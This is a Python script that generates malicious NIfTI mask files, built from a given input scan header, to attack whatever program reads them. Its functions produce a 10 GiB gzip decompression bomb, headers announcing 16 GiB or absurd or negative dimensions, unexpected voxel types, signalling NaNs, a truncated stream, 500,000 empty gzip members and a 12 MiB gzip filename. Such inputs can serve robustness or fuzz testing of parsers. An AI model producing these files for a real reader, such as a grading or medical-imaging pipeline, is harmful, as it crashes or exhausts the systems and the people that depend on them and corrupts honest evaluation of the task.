"""Attacks on whoever reads a mask: NIfTI files, on the input's grid where that helps the attack."""

import gzip
import struct
import sys
from pathlib import Path

HEADER_BYTES = 352
DIMENSIONS, TYPE = 40, 70
FLOAT32, COMPLEX64, RGB24 = (16, 32), (32, 64), (128, 24)
"""NIfTI's codes, and bits per voxel."""
MIB = 1 << 20
TEN_GIB_IN_MIB = 10 << 10
SIGNALLING_NAN = struct.pack("<I", 0x7FA00000)
NAMED = b"\x1f\x8b\x08\x08" + bytes(6)


def gzip_bomb() -> bytes:
    """Follow an empty mask by 10 GiB of zeros."""
    return _compressed(_header() + _zeros()) + gzip.compress(bytes(128 * MIB)) * (TEN_GIB_IN_MIB // 128)


def announced_bomb() -> bytes:
    """Announce 16 GiB of voxels."""
    return _compressed(_resized(3, 2048, 2048, 1024) + bytes(MIB))


def absurd_dimensions() -> bytes:
    """Announce more voxels than there are atoms in the computer."""
    return _compressed(_resized(7, *[32767] * 7) + _zeros())


def negative_dimensions() -> bytes:
    """Announce fewer voxels than none."""
    return _compressed(_resized(3, -6, -7, 8) + _zeros())


def complex_voxels() -> bytes:
    """Store complex numbers."""
    return _compressed(_header(COMPLEX64) + _zeros(8))


def colours() -> bytes:
    """Store red, green and blue."""
    return _compressed(_header(RGB24) + _zeros(3))


def not_a_number() -> bytes:
    """Store in every voxel a NaN of the kind that processors complain of."""
    return _compressed(_header() + SIGNALLING_NAN * (len(_zeros()) // 4))


def all_values() -> bytes:
    """Store another number in every voxel."""
    return _compressed(_header() + b"".join(struct.pack("<f", number) for number in range(len(_zeros()) // 4)))


def cut_short() -> bytes:
    """End in the middle of the compressed voxels."""
    whole = _compressed(_header() + bytes(range(256)) * (len(_zeros()) // 256))
    return whole[: len(whole) // 2]


def empty_members() -> bytes:
    """Put half a million empty files between the header and the voxels."""
    return _compressed(_header()) + _compressed(b"") * 500_000 + _compressed(_zeros())


def endless_name() -> bytes:
    """Give the compressed voxels a file name of 12 MiB."""
    return _compressed(_header()) + NAMED + b"x" * (12 * MIB) + b"\0" + _compressed(_zeros())[10:]


def _header(stored: tuple[int, int] = FLOAT32) -> bytes:
    """Return the input's header, for voxels of another type."""
    content = bytearray(gzip.decompress(Path("/input/flair.nii.gz").read_bytes())[:HEADER_BYTES])
    struct.pack_into("<2h", content, TYPE, *stored)
    return bytes(content)


def _resized(*dimensions: int) -> bytes:
    """Return the input's header with other dimensions."""
    content = bytearray(_header())
    struct.pack_into(f"<{len(dimensions)}h", content, DIMENSIONS, *dimensions)
    return bytes(content)


def _zeros(voxel_bytes: int = 4) -> bytes:
    """Return an empty volume of the input's shape."""
    _, *sides = struct.unpack_from("<4h", _header(), DIMENSIONS)
    return bytes(sides[0] * sides[1] * sides[2] * voxel_bytes)


def _compressed(content: bytes) -> bytes:
    """Return a gzip file."""
    return gzip.compress(content, mtime=0)


if __name__ == "__main__":
    Path(sys.argv[-1]).write_bytes(globals()[sys.argv[1]]())
